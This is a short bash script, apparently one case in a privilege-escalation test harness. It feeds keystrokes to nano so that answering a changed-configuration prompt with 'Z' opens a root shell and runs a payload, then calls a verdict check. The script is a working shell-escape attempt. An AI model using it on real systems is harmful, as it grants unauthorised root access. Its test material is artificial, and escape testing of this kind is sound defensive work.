#!/bin/bash
# The prompt for a changed configuration file, in which Z opens a root shell. (nano prompts if /etc/nanorc differs.)
. "$(dirname "$0")/lib/attack.sh"

{ sleep 15; for _ in $(seq 20); do printf 'Z\n%s/payload\nexit\n' "$work"; sleep 0.5; done; } | attempt_on_terminal nano
verdict
